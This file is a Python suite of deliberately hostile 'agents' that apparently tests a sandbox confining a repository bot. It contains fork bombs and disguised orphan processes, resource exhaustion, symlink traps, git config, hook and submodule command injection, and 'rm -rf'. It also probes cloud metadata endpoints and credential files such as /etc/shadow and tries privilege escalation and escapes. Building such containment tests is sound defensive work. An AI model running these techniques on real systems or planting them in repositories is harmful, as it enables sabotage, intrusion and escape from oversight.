"""Agents that misbehave: `agents.py KIND PARAMETER FACTS`. FACTS is JSON: where forbidden things are.

Each does its worst and goes on. What it must not get is announced as `HARM: what`, which the judge looks for.
"""

import ctypes
import json
import mmap
import os
import resource
import select
import signal
import socket
import subprocess
import sys
import threading
import time

kind, parameter, facts = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
libc = ctypes.CDLL(None, use_errno=True)
# Where it may write, as it sees it.
WORK, SCRATCH = facts["work"], facts["scratch"]
kinds = {}


def agent(function):
    kinds[function.__name__] = function
    return function


def harm(what):
    print(f"HARM: {what}", flush=True)


def attempt(function, *arguments):
    """What came of it, or None."""
    try:
        return function(*arguments)
    except (OSError, ValueError, subprocess.SubprocessError, OverflowError, MemoryError):
        return None


def write(path, text="x"):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "w") as file:
        file.write(text)


def daemon(function):
    """Leaves `function` to run in a session of its own, with no parent."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            function()
        os._exit(0)
    os.wait()


def forever():
    while True:
        time.sleep(1000)


# Processes


@agent
def fork_bomb(style):
    while True:
        try:
            child = os.fork()
        except OSError:
            if style == "calm":
                time.sleep(0.001)
            continue
        if style == "deep" and child == 0:
            os.setsid()
        if style == "chain" and child != 0:
            os._exit(0)


@agent
def orphans(count):
    for _ in range(int(count)):
        daemon(forever)


@agent
def silent_orphan(wait):
    def hide():
        os.closerange(0, 100)
        time.sleep(float(wait))
        write("late", "written late")
        forever()

    daemon(hide)


@agent
def bare_orphan(style):
    """Without its environment and under another name."""

    def strip():
        if style == "clean":
            os.execve("/usr/bin/sleep", ["sleep", facts["nap"]], {})
        os.execve("/usr/bin/sleep", ["[kworker/0:1]", facts["nap"]], {"A": "b"})

    daemon(strip)


@agent
def sleeper(style):
    if style == "stopped":
        os.kill(os.getpid(), signal.SIGSTOP)
    forever()


@agent
def deaf(style):
    for number in range(1, 65):
        attempt(signal.signal, number, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    if style == "family":
        for _ in range(5):
            if os.fork() == 0:
                break
    while style == "busy":
        pass
    forever()


@agent
def closer(style):
    if style == "null":
        null = os.open("/dev/null", os.O_RDWR)
        for number in range(3):
            os.dup2(null, number)
    else:
        os.closerange(0, 3 if style == "three" else 1000)
    forever()


@agent
def zombies(count):
    for _ in range(int(count)):
        if attempt(os.fork) == 0:
            os._exit(0)
    forever()


@agent
def threads(count):
    for _ in range(int(count)):
        try:
            threading.Thread(target=forever, daemon=True).start()
        except RuntimeError:
            break
    forever()


@agent
def killer(target):
    number = {"all": -1, "group": 0, "first": 1}[target]
    attempt(os.kill, number, signal.SIGKILL)


@agent
def host_killer(signal_number):
    try:
        os.kill(facts["bot"], int(signal_number))
    except OSError:
        return
    # The number may be one of ours by chance.
    if not os.path.exists(SCRATCH):
        harm("it could signal the bot")


@agent
def spinner(count):
    for _ in range(int(count) - 1):
        if os.fork() == 0:
            break
    while True:
        pass


@agent
def relay(pause):
    """Never the same process for long."""
    while True:
        if os.fork() != 0:
            os._exit(0)
        os.setsid()
        time.sleep(float(pause))


# Output


@agent
def flood(style):
    block = b"y" * 65536 if style != "lines" else b"y\n" * 32768
    for _ in range(10 * (1 << 30) // len(block)):
        if style in ("errors", "both"):
            os.write(2, block)
        if style != "errors":
            os.write(1, block)


@agent
def endless_line(stream):
    number = 2 if stream == "errors" else 1
    while True:
        os.write(number, b"x" * (1 if stream == "drip" else 4096))


@agent
def drip(pause):
    while True:
        print("still here", flush=True)
        time.sleep(float(pause))


@agent
def terminal(style):
    texts = {
        "escape": "\x1b[2J\x1b]0;title\x07\x1b]52;c;cHduZWQ=\x07",
        "nul": "\0" * 1000,
        "broken": None,
        "stuff": "",
        "bidi": "\u202etxt.exe\u202c\u2066\u200b\ufeff",
        "rewritten": "all checks failed\rall checks passed\b\b\b\b\b\b\x0b\x0c",
    }
    if style == "broken":
        os.write(1, bytes(range(256)) * 50)
    elif style == "stuff":
        for name in ("/dev/tty", "/dev/pts/0", "/dev/console", "/dev/tty1"):
            file = attempt(os.open, name, os.O_RDWR)
            if file is not None:
                import fcntl

                if attempt(fcntl.ioctl, file, 0x5412, b"x") is not None:
                    harm("it typed into a terminal")
    else:
        print(texts[style])


# Memory


@agent
def memory_hog(style):
    if style == "list":
        hoard = []
        while True:
            hoard.append(bytearray(1 << 20))
    if style == "map":
        while True:
            area = mmap.mmap(-1, 1 << 26, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            hold.append(area)
            area.write(b"x" * (1 << 26))
    if style == "shared":
        while True:
            area = mmap.mmap(-1, 1 << 25)
            hold.append(area)
            area.write(b"x" * (1 << 25))
    if style == "family":
        for _ in range(10):
            if attempt(os.fork) == 0:
                break
        hoard = bytearray(1 << 25)
        for index in range(0, len(hoard), 4096):
            hoard[index] = 1
        forever()
    if style == "once":
        hold.append(b"x" * (1 << 30))
    if style == "threads":

        def hoard_more():
            while True:
                hold.append(bytearray(b"x" * (1 << 20)))

        for _ in range(8):
            threading.Thread(target=hoard_more, daemon=True).start()
    if style == "locked":
        libc.mlockall(3)
        hold.append(bytearray(1 << 30))
    forever()


hold = []


@agent
def memory_filler(folder):
    """Folders that are memory."""
    number = 0
    written = 0
    while written < 1 << 30:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(f"{folder}/fill-{number}", "wb") as file:
                file.write(b"x" * (1 << 22))
        except OSError:
            break
        written += 1 << 22
        number += 1
    if written > 300 << 20:
        harm(f"{written} bytes fit into {folder}")


# Disk


def fill(path, style):
    """A megabyte, without a write."""
    with open(path, "w+b") as file:
        os.posix_fallocate(file.fileno(), 0, 1 << 20)
        if style == "mapped":
            with mmap.mmap(file.fileno(), 1 << 20) as area:
                area.write(os.urandom(1 << 20))


@agent
def disk_filler(style):
    place = SCRATCH if style == "scratch" else WORK
    number = 0
    while True:
        try:
            if style in ("allocated", "mapped"):
                fill(f"{place}/fill-{number}", style)
                number += 1
                time.sleep(0.002)
                continue
            with open(f"{place}/fill-{number if style != 'one' else 0}", "ab") as file:
                file.write(os.urandom(1 << 20))
                if style == "held":
                    os.unlink(file.name)
                    hold.append(os.dup(file.fileno()))
        except OSError:
            time.sleep(0.01)
        number += 1
        time.sleep(0.002)


@agent
def many_files(style):
    number = 0
    while True:
        name = f"{SCRATCH}/{style}-{number}"
        if style == "folders":
            attempt(os.mkdir, name)
        elif style == "links":
            attempt(os.symlink, "/", name)
        elif style == "pipes":
            attempt(os.mkfifo, name)
        elif style == "long":
            attempt(write, f"{name}-{'n' * 200}")
        elif style == "hard":
            write(f"{SCRATCH}/first") if number == 0 else attempt(os.link, f"{SCRATCH}/first", name)
        else:
            attempt(write, name)
        number += 1


@agent
def sparse(size):
    with open(f"{WORK}/sparse", "wb") as file:
        attempt(os.ftruncate, file.fileno(), int(size))
    with open(f"{SCRATCH}/target/run_results.json", "wb") as file:
        attempt(os.ftruncate, file.fileno(), int(size))


@agent
def deep(depth):
    os.chdir(WORK)
    for _ in range(int(depth)):
        os.mkdir("d" * 50)
        os.chdir("d" * 50)
    write("bottom")


@agent
def odd_names(style):
    names = {
        "lines": ["a\nb", "\n", "-rf", "--force", "a b", "'; touch x; '", "$(touch y)", "%s%n"],
        "bytes": [b"\xff\xfe", b"\xc3\x28", b"\x1b[31m"],
        "long": ["n" * 255, "\u202egpj.sql", "..." * 50],
        "git": [".gitattributes ", ".GIT", "git~1", ".git\u200c", "CON"],
        "options": ["-", "--", "-n", "--help", "--upload-pack=x", "HEAD", "@{u}", "main:models"],
        "patterns": ["*", "?", "[a-z]*", ":(top)x", ":!x", ":^models", "{a,b}", "**", "\\\\"],
        "cases": ["MODELS", "Models", "DBT_PROJECT.YML", "mode\u217cs", "mo\u0301dels", "m\u00f3dels"],
    }[style]
    for name in names:
        os.chdir(WORK)
        with open(name, "w") as file:
            file.write("x")


@agent
def locked_folders(mode):
    for base in (WORK, SCRATCH):
        write(f"{base}/closed/inner/file")
        os.chmod(f"{base}/closed/inner/file", int(mode, 8))
        os.chmod(f"{base}/closed/inner", int(mode, 8))
        os.chmod(f"{base}/closed", int(mode, 8))


@agent
def mover(style):
    targets = {"work": WORK, "scratch": SCRATCH, "git": f"{WORK}/.git"}
    path = targets[style]
    attempt(os.rename, path, path + "-moved")
    attempt(os.rmdir, path)
    attempt(os.unlink, path)
    os.system(f"rm -rf {path} 2>/dev/null; chmod -R 0 {path} 2>/dev/null")


@agent
def hard_links(target):
    source = facts["secret"] if target == "secret" else target
    if attempt(os.link, source, f"{WORK}/linked") is None:
        return
    if target == "secret":
        harm("it linked a file of the host")


# Links and traps for whoever comes after


@agent
def link_traps(style):
    """The bot writes models/schema.yml and reads target/run_results.json afterwards."""
    os.chdir(WORK)
    os.system("rm -rf models")
    results = f"{SCRATCH}/target/run_results.json"
    if style == "file":
        os.makedirs("models")
        os.symlink(facts["outside"], "models/schema.yml")
        os.symlink(facts["secret"], results)
    if style == "folder":
        os.symlink(facts["outside_folder"], "models")
        os.system(f"rm -rf {SCRATCH}/target")
        os.symlink(facts["outside_folder"], f"{SCRATCH}/target")
    if style == "relative":
        os.makedirs("models")
        os.symlink("../../" + os.path.basename(facts["outside"]), "models/schema.yml")
    if style == "loop":
        os.symlink("models", "models")
        os.symlink(results, results)
    if style == "dangling":
        os.makedirs("models")
        os.symlink(facts["outside_folder"] + "/made", "models/schema.yml")
    if style == "pipe":
        os.makedirs("models")
        os.mkfifo("models/schema.yml")
        os.mkfifo(results)
    if style == "socket":
        os.makedirs("models")
        for name in ("models/schema.yml", results):
            socket.socket(socket.AF_UNIX).bind(name)
    if style == "device":
        os.makedirs("models")
        attempt(os.symlink, "/dev/zero", "models/schema.yml")
        attempt(os.symlink, "/dev/zero", results)
    if style == "process":
        # What these say depends on who reads them.
        os.makedirs("models")
        os.symlink("/proc/self/environ", "models/schema.yml")
        os.symlink("/proc/self/environ", results)
    if style == "parent":
        os.symlink("..", "models")
        os.system(f"rm -rf {SCRATCH}/target")
        os.symlink("..", f"{SCRATCH}/target")
    if style == "chain":
        os.makedirs("models")
        for number in range(30):
            os.symlink(f"link-{number + 1}", f"models/link-{number}")
        os.symlink(facts["outside"], "models/link-30")
        os.symlink("link-0", "models/schema.yml")
    if style == "root":
        os.symlink("/", "models")
        os.symlink("/", results)
    if style == "swap":
        # Now a folder, now a link, while the bot looks.
        os.makedirs("models")
        end = time.time() + 1
        while time.time() < end:
            attempt(os.rename, "models", "real")
            attempt(os.symlink, facts["outside_folder"], "models")
            attempt(os.unlink, "models")
            attempt(os.rename, "real", "models")


EVIL = f"touch {facts['outside_folder']}/ran"


@agent
def git_traps(style):
    os.chdir(WORK)
    config = f"""[core]
    repositoryformatversion = 0
    bare = false
    fsmonitor = "{EVIL}; false"
    sshCommand = "{EVIL}"
    pager = "{EVIL}"
    editor = "{EVIL}"
    hooksPath = hooks
    attributesFile = {WORK}/attributes
[filter "evil"]
    clean = "{EVIL}; cat"
    smudge = "{EVIL}; cat"
    process = "{EVIL}"
    required = true
[diff "evil"]
    textconv = "{EVIL}; cat"
    command = "{EVIL}"
[merge "evil"]
    driver = "{EVIL}"
[alias]
    add = "!{EVIL}"
    commit = "!{EVIL}"
[gpg]
    program = "{EVIL}"
[commit]
    gpgSign = true
[include]
    path = {facts["secret"]}
"""

    def repository(folder):
        for name in ("objects/info", "refs/heads", "hooks", "info"):
            os.makedirs(f"{folder}/{name}", exist_ok=True)
        write(f"{folder}/HEAD", "ref: refs/heads/main\n")
        write(f"{folder}/config", config)
        for hook in ("pre-commit", "post-checkout", "post-index-change", "reference-transaction", "pre-auto-gc"):
            write(f"{folder}/hooks/{hook}", f"#!/bin/sh\n{EVIL}\n")
            os.chmod(f"{folder}/hooks/{hook}", 0o755)

    if style == "attributes":
        write(".gitattributes", "* filter=evil diff=evil merge=evil text eol=crlf\n")
        write("attributes", "* filter=evil\n")
    if style == "gitdir":
        repository(f"{WORK}/fake")
        attempt(os.unlink, ".git")
        attempt(write, ".git", f"gitdir: {WORK}/fake\n")
        attempt(write, ".git", f"gitdir: {facts['worktree']}/fake\n")
        if attempt(open, ".git", "a") is not None:
            harm("it changed .git")
    if style == "nested":
        repository(f"{WORK}/models/.git")
        write("models/.gitattributes", "* filter=evil diff=evil\n")
        write("models/new.sql", "select 1")
        os.system("cd models && git -c core.fsmonitor= -c core.hooksPath=/dev/null -c user.name=x -c user.email=x@x "
                  "-c commit.gpgSign=false -c filter.evil.required=false commit --allow-empty -qm x 2>/dev/null")
    if style == "submodule":
        write(".gitmodules", f'[submodule "m"]\n path = m\n url = ext::sh -c "{EVIL}"\n update = !{EVIL}\n')
        repository(f"{WORK}/m/.git")
    if style == "alternates":
        repository(f"{WORK}/models/.git")
        write("models/.git/objects/info/alternates", facts["outside_folder"] + "\n/etc\n")
        write("models/.git/objects/info/http-alternates", "http://127.0.0.1/\n")
    if style == "bare":
        repository(WORK)
        repository(f"{WORK}/models/bare.git")
    if style == "origin":
        # The real repository, by the path that .git tells.
        text = open(".git").read() if os.path.isfile(".git") else ""
        folder = text.replace("gitdir:", "").strip()
        # At the same path it may make a folder of its own, in memory; what counts is what was there.
        for path in (path for path in (folder, facts["repository"]) if os.path.exists(f"{path}/HEAD")):
            for name in ("config", "hooks/post-commit", "info/attributes", "objects/info/alternates"):
                if attempt(write, f"{path}/{name}", config) is not None or os.path.exists(f"{path}/{name}"):
                    harm("it reached the repository")
                    return
    if style == "ignore":
        write(".gitignore", "*\n")
        write(".git-blame-ignore-revs", "x")
    if style == "encoding":
        write(".gitattributes", "* working-tree-encoding=UTF-16 text eol=crlf ident\n")
        write("models/schema.yml", "$Id$\n")
    if style == "macros":
        lines = [f"[attr]m{n} m{n + 1} m{n + 2}" for n in range(200)]
        write(".gitattributes", "\n".join(lines) + "\n* m0\n")
    if style == "lfs":
        write(".lfsconfig", f'[lfs]\n url = ext::sh -c "{EVIL}"\n[lfs "customtransfer.x"]\n path = "{EVIL}"\n')
        write(".gitattributes", "* filter=lfs diff=lfs merge=lfs\n")
    if style == "hooks":
        for folder in ("hooks", ".githooks", ".husky"):
            for hook in ("pre-commit", "commit-msg", "post-commit", "post-checkout"):
                write(f"{folder}/{hook}", f"#!/bin/sh\n{EVIL}\n")
                os.chmod(f"{folder}/{hook}", 0o755)
        write(".pre-commit-config.yaml", f"repos: [{{repo: local, hooks: [{{id: x, entry: {EVIL}}}]}}]\n")
    if style == "escape":
        write(".gitmodules", f'[submodule "../../x"]\n path = ../../x\n url = -u{EVIL}\n')
        repository(f"{WORK}/models/..git")
    if style == "modes":
        for name in ("models/schema.yml", "a.sh"):
            write(name, "x")
            os.chmod(name, 0o6777)


# The network


@agent
def network(style):
    if style in ("tcp", "loopback"):
        address = ("1.1.1.1", 53) if style == "tcp" else ("127.0.0.1", facts["port"])
        if attempt(socket.create_connection, address, 1) is not None:
            harm("it connected to " + address[0])
    if style == "udp":
        if attempt(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, b"x", ("8.8.8.8", 53)) is not None:
            harm("it sent a datagram")
    if style == "name":
        if attempt(socket.getaddrinfo, "example.org", 80) is not None:
            harm("it resolved a name")
    if style == "unix":
        for path in (facts["socket"], "/var/run/docker.sock", "/run/podman/podman.sock", "/run/dbus/system_bus_socket"):
            if attempt(socket.socket(socket.AF_UNIX).connect, path) is not None or attempt(os.stat, facts["socket"]):
                harm("it reached a socket of the host")
    if style == "abstract":
        if attempt(socket.socket(socket.AF_UNIX).connect, "\0" + facts["abstract"]) is not None:
            harm("it reached an abstract socket of the host")
    if style == "raw":
        for family, sort in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):
            if attempt(socket.socket, family, sort, 1) is not None:
                harm("it opened a raw socket")
    if style == "interface":
        names = [name for _, name in socket.if_nameindex()]
        if set(names) - {"lo", "tunl0", "sit0", "ip6tnl0", "gre0", "gretap0", "erspan0", "ip_vti0", "ip6_vti0",
                         "ip6gre0", "dummy0"}:
            harm(f"it has {names}")
    if style == "listen":
        server = socket.socket()
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.accept()
    if style == "ipv6":
        for address in (("::1", facts["port"]), ("2606:4700:4700::1111", 53)):
            if attempt(socket.create_connection, address, 1) is not None:
                harm("it connected to " + address[0])
    if style == "metadata":
        # Where clouds tell a machine its credentials.
        for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200"):
            if attempt(socket.create_connection, (address, 80), 1) is not None:
                harm("it connected to " + address)
    if style == "broadcast":
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        if attempt(sock.sendto, b"x", ("255.255.255.255", 9)) is not None:
            harm("it sent to everybody")
    if style == "ping":
        sock = attempt(socket.socket, socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        if sock is not None and attempt(sock.sendto, b"\x08\0\0\0\0\0\0\0", ("1.1.1.1", 0)) is not None:
            harm("it sent an echo request")
    if style == "vsock":
        sock = attempt(socket.socket, socket.AF_VSOCK, socket.SOCK_STREAM)
        if sock is not None:
            sock.settimeout(1)
            if attempt(sock.connect, (2, 22)) is not None:
                harm("it reached the hypervisor")


# Looking around


@agent
def reader(style):
    paths = {
        "secret": [facts["secret"]],
        "shadow": ["/etc/shadow", "/etc/gshadow", "/etc/ssh/ssh_host_rsa_key", "/etc/sudoers"],
        "home": ["/root", "/home/" + facts["user"], "/root/.ssh", "/root/.bashrc"],
        "data": [facts["neighbour"], facts["repository"]],
        "root": ["/proc/1/root" + facts["secret"], "/proc/self/root" + facts["secret"], ".." + "/.." * 9 + facts["secret"]],
        "system": ["/var/lib/dpkg", "/boot", "/lost+found", "/mnt", "/srv", "/var/log", "/sys/kernel/debug"],
        "kernel": ["/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmsg", "/sys/kernel/security"],
        "spool": ["/var/mail", "/var/spool/cron", "/etc/cron.d", "/var/backups", "/root/.bash_history"],
    }[style]
    # A folder that only leads to the Python that runs this was made for that, and holds nothing else.
    own = [sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), os.path.realpath(sys.executable)]
    for path in paths:
        names = [name for name in attempt(os.listdir, path) or []
                 if not any(f"{folder}/".startswith(f"{path}/{name}/") for folder in own)]
        if names or attempt(lambda: open(path, "rb").read(1)):
            harm(f"it read {path}")


@agent
def writer(style):
    targets = {
        "system": ["/usr/x", "/usr/bin/python3", "/etc/x", "/bin/x", "/lib/x"],
        "outside": [facts["outside"], facts["outside_folder"] + "/x"],
        "up": ["/sandbox/x", f"{WORK}/../x", "/x", f"{WORK}/../../x"],
        "python": [sys.prefix + "/x", os.path.dirname(os.__file__) + "/x"],
        "kernel": ["/sys/kernel/x"],
        "groups": ["/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
                   "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/pids/pids.max"],
        "devices": ["/dev/sda", "/dev/vda", "/dev/mem", "/dev/kmsg", "/dev/x", "/dev/fuse"],
    }[style]
    for path in targets:
        # A folder of devices that is memory may take files of any name; what counts is what was there.
        if path.startswith("/dev/") and not os.path.exists(path):
            continue
        if attempt(lambda: open(path, "w").write("x")):
            harm(f"it wrote to {path}")
    if style == "kernel":
        # Opened and no more: where that is allowed, a word would change the machine.
        for folder, names, files in os.walk("/proc"):
            if folder == "/proc":
                names[:] = [name for name in names if not name.isdigit() and name not in ("self", "thread-self", "net", "pressure")]
            for name in files:
                file = attempt(os.open, f"{folder}/{name}", os.O_WRONLY | os.O_NONBLOCK)
                if file is not None and not os.path.samestat(os.fstat(file), os.stat("/dev/null")):
                    harm(f"it may write to {folder}/{name}")


@agent
def environment(style):
    texts = [str(dict(os.environ))]
    if style == "others":
        for name in os.listdir("/proc"):
            for file in ("environ", "cmdline", "maps"):
                texts.append(str(attempt(lambda: open(f"/proc/{name}/{file}", "rb").read())))
    if style == "descriptors":
        for number in range(3, 64):
            link = attempt(os.readlink, f"/proc/self/fd/{number}")
            if link and not link.startswith(("/proc", "/dev/null")) and "agents.py" not in link:
                harm(f"it inherited {link}")
    if style == "keys":
        texts.append(str(attempt(lambda: open("/proc/keys").read())))
    print("\n".join(texts)[:100_000])


@agent
def processes(style):
    numbers = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    if style == "count" and len(numbers) > 12:
        harm(f"it sees {len(numbers)} processes")
    if style == "trace":
        for number in numbers:
            if number not in (os.getpid(), 1) and libc.ptrace(16, number, 0, 0) == 0:
                name = attempt(lambda: open(f"/proc/{number}/cmdline", "rb").read()) or b""
                if b"xctest" in name or b"proof" in name:
                    harm("it traces the bot")
    if style == "memory":
        for number in numbers:
            if number != os.getpid() and attempt(lambda: open(f"/proc/{number}/mem", "rb").read(1)):
                harm("it reads memory")
    if style == "root":
        for number in numbers:
            if attempt(os.listdir, f"/proc/{number}/root" + facts["neighbour"]):
                harm("it sees the host's root")
    if style == "names":
        for number in numbers:
            line = attempt(lambda: open(f"/proc/{number}/cmdline", "rb").read()) or b""
            if b"xctest" in line:
                harm("it sees the bot")


# Rights


@agent
def rights(style):
    if style == "setuid":
        for call in (os.setuid, os.setgid):
            if os.getuid() != 0 and attempt(call, 0) is not None and os.getuid() == 0:
                harm("it became root")
        attempt(os.setgroups, [0])
    if style == "suid":
        write(f"{WORK}/suid", "#!/bin/sh\nid")
        attempt(os.chmod, f"{WORK}/suid", 0o4755)
        for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"], ["passwd", "-d", "root"]):
            found = attempt(lambda: subprocess.run(command, capture_output=True, timeout=2))
            if found and b"uid=0(root)" in found.stdout and os.getuid() != 0:
                harm("it gained root")
    if style == "namespace":
        # Where a namespace of its own can be had, it must gain nothing by it.
        for flag in (0x10000000, 0x10000000 | 0x00020000, 0x40000000):
            libc.unshare(flag)
        libc.mount(b"none", b"/usr", None, 32, None)
        libc.umount2(b"/usr", 2)
        if attempt(lambda: open("/usr/x", "w").write("x")) or os.path.exists(facts["secret"]):
            harm("it gained something by a namespace")
    if style == "mount":
        if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or libc.umount2(b"/usr", 2) == 0:
            harm("it mounted")
        if libc.mount(b"none", b"/usr", None, 32 | 4096, None) == 0:
            harm("it mounted /usr writable")
    if style == "chroot":
        if attempt(os.chroot, "/tmp") is not None:
            harm("it changed its root")
    if style == "node":
        if attempt(os.mknod, f"{WORK}/node", 0o600 | 0o020000, os.makedev(1, 1)) is not None:
            if attempt(lambda: open(f"{WORK}/node", "rb").read(1)) is not None:
                harm("it made a device")
    if style == "clock":
        now = time.time()
        attempt(time.clock_settime, time.CLOCK_REALTIME, now - 86400)
        if abs(time.time() - now) > 3600:
            harm("it set the clock")
    if style == "name":
        # Its own namespace may have any name; the judge looks at the host's.
        attempt(socket.sethostname, "pwned")
    if style == "priority":
        if attempt(os.nice, -20) is not None:
            harm("it went before others")
    if style == "limits":
        for number in (resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
            soft, hard = resource.getrlimit(number)
            if hard != resource.RLIM_INFINITY and attempt(resource.setrlimit, number, (hard + 1, hard + 1)) is not None:
                if os.getuid() != 0 or resource.getrlimit(number)[1] > hard:
                    harm("it raised a limit")
    if style == "calls":
        # bpf, perf_event_open, init_module, kexec_load, reboot, swapon, acct, open_by_handle_at, iopl
        for number in (321, 298, 175, 246, 169, 167, 163, 304, 172):
            if libc.syscall(number, 0, 0, 0, 0, 0) == 0:
                harm(f"call {number} went through")
    if style == "immutable":
        import fcntl

        write(f"{WORK}/kept")
        with open(f"{WORK}/kept") as file:
            if attempt(fcntl.ioctl, file, 0x40086602, (0x10).to_bytes(8, sys.byteorder)) is not None:
                harm("it made a file that nobody can remove")
    if style == "starvation":
        now = int(open("/proc/self/oom_score_adj").read())
        if attempt(write, "/proc/self/oom_score_adj", "-1000") or int(open("/proc/self/oom_score_adj").read()) < now:
            harm("others are killed before it when memory runs out")
    if style == "realtime":
        if attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(99)) is not None:
            if os.sched_getscheduler(0) == os.SCHED_FIFO:
                harm("it goes before everybody")
    if style == "capabilities":
        text = open("/proc/self/status").read()
        line = [line for line in text.splitlines() if line.startswith("CapEff")][0]
        if int(line.split()[1], 16):
            harm(line)
        if "NoNewPrivs:\t1" not in text:
            harm("a program may gain rights")


# Odds and ends


@agent
def arguments(style):
    if style == "many":
        attempt(os.execv, "/bin/true", ["true"] + ["x" * 1000] * 100_000)
    if style == "long":
        attempt(os.execv, "/bin/true", ["true", "x" * (200 << 10)])
    if style == "environment":
        attempt(os.execve, "/bin/true", ["true"], {f"A{n}": "x" * 1000 for n in range(100_000)})
    if style == "chain":
        left = int(sys.argv[4]) if len(sys.argv) > 4 else 30
        if left:
            os.execv(sys.executable, [sys.executable] + sys.argv[:4] + [str(left - 1)])


@agent
def crash(style):
    if style == "abort":
        resource.setrlimit(resource.RLIMIT_CORE, resource.getrlimit(resource.RLIMIT_CORE)[1:] * 2)
        os.abort()
    if style == "segment":
        ctypes.string_at(1)
    if style == "exit":
        os._exit(250)
    if style in ("trap", "bus", "quit"):
        os.kill(os.getpid(), {"trap": signal.SIGTRAP, "bus": signal.SIGBUS, "quit": signal.SIGQUIT}[style])
    if style == "kill":
        os.kill(os.getpid(), signal.SIGKILL)


@agent
def descriptors(style):
    held = []
    while True:
        try:
            if style == "pipes":
                held.extend(os.pipe())
            elif style == "sockets":
                held.extend(socket.socketpair())
            elif style == "events":
                held.append(os.eventfd(0))
            elif style == "polls":
                held.append(select.epoll())
            elif style == "files":
                held.append(open("/dev/null"))
            else:
                held.append(libc.inotify_init())
                if held[-1] < 0:
                    break
        except OSError:
            break
    forever()


@agent
def locks(style):
    import fcntl

    write(f"{SCRATCH}/lock")
    file = open(f"{SCRATCH}/lock")
    fcntl.flock(file, fcntl.LOCK_EX)
    if style == "record":
        fcntl.lockf(open(f"{SCRATCH}/lock", "r+"), fcntl.LOCK_EX)
    if style == "lease":
        attempt(fcntl.fcntl, file, 1024, fcntl.F_WRLCK)
    forever()


# Confined, it cannot see this file. What would ruin a machine is tried nowhere else.
ruinous = {"killer", "host_killer", "memory_filler", "writer", "rights", "processes", "hard_links", "mover", "git_traps"}
if kind in ruinous and os.path.exists(facts["secret"]):
    harm("it is not confined")
else:
    kinds[kind](parameter)
